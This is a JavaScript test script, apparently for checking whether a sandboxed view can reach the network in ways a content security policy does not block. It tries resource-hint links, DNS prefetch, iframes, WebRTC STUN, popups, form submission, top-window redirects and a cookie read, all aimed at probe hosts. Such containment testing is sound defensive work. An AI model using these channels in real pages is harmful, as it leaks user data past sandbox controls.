// Ways to the network that a content security policy does not govern, or that leave the document.

/* global probe, sleep, initialize, attempt, scene, heard, report */

scene(async () => {
  await initialize();
  await heard("ui/notifications/tool-result", 4000);
  const hint = (rel) => {
    const link = document.createElement("link");
    link.rel = rel;
    link.href = `${probe.hints}/${rel}`;
    link.crossOrigin = "anonymous";
    document.head.append(link);
  };
  await attempt("hints", () => ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload"].forEach(hint));
  await attempt("names", () => {
    for (const rel of ["dns-prefetch", "preconnect"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, href: `http://${rel}.${probe.names}:9/` });
      document.head.append(link);
    }
    const frame = document.createElement("iframe");
    frame.src = `http://frame.${probe.names}:9/`;
    document.body.append(frame);
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:webrtc.${probe.names}:9` }] });
    connection.createDataChannel("names");
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  });
  await attempt("webrtc", async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${probe.stun}` }] });
    connection.createDataChannel("a");
    await connection.setLocalDescription(await connection.createOffer());
    return "offered";
  });
  await attempt("popup", () => String(open(`${probe.undeclared}/leaks/undeclared/popup`)));
  await attempt("form", () => {
    const form = document.createElement("form");
    form.action = `${probe.undeclared}/leaks/undeclared/form`;
    form.target = "_blank";
    document.body.append(form);
    form.submit();
    return "submitted";
  });
  await attempt("top", () => {
    top.location = `${probe.undeclared}/leaks/undeclared/top`;
    return "set";
  });
  await attempt("cookie", () => document.cookie);
  await sleep(1500);
  await report("tried");
}).then(() => {
  // The last thing that it does: a host may well close a View that leaves.
  location.href = `${probe.undeclared}/leaks/undeclared/leave`;
});
